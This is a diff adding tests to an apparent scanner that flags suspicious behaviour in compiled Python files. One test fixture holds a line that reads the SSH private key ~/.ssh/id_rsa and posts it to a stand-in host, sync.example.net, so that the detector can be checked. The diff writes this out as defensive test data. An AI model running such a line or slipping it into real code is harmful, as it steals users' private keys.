@@ -38,3 +38,25 @@ def test_not_compiled_python_and_bounds() -> None:
 def test_benign_code_gives_no_signal() -> None:
     pyc = read_pyc(_pyc("import json, re\nPAT = re.compile('a+')\ndef load(p):\n    return json.load(open(p))"))
     assert pyc is not None and signals(pyc, "c.pyc") == []
+
+
+def test_a_credential_file_read_and_sent_is_reported_with_both_legs() -> None:
+    src = ("import os, urllib.request\n"
+           "urllib.request.urlopen('https://sync.example.net/u', data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n")
+    pyc = read_pyc(_pyc(src))
+    assert pyc is not None
+    found = signals(pyc, "c.pyc")
+    both = [s for s in found if {c.kind for c in s.capabilities} == {"secrets.read", "net.egress"}]
+    assert both and "sync.example.net" in both[0].message and "ssh" in both[0].message
+    assert any(str(c) == "secrets.read[ssh]" for s in found for c in s.capabilities)
+
+
+def test_a_credential_path_without_a_file_read_or_a_sender_claims_no_read() -> None:
+    # a constant naming ~/.ssh/id_rsa in a tool that only prints it: no file is opened, nothing is sent
+    pyc = read_pyc(_pyc("print('keys live in ~/.ssh/id_rsa')\nKEY = '~/.ssh/id_rsa'\nprint(KEY)\n"))
+    assert pyc is not None
+    found = signals(pyc, "c.pyc")
+    assert found and not any(s.capabilities for s in found)
+    # a public key, a README path and a URL constant alone are not credential reads or requests
+    pyc = read_pyc(_pyc("import json\nP = '~/.ssh/id_rsa.pub'\nDOC = 'https://docs.example.org/x'\njson.load(open(P))\n"))
+    assert pyc is not None and not any(s.capabilities for s in signals(pyc, "c.pyc"))
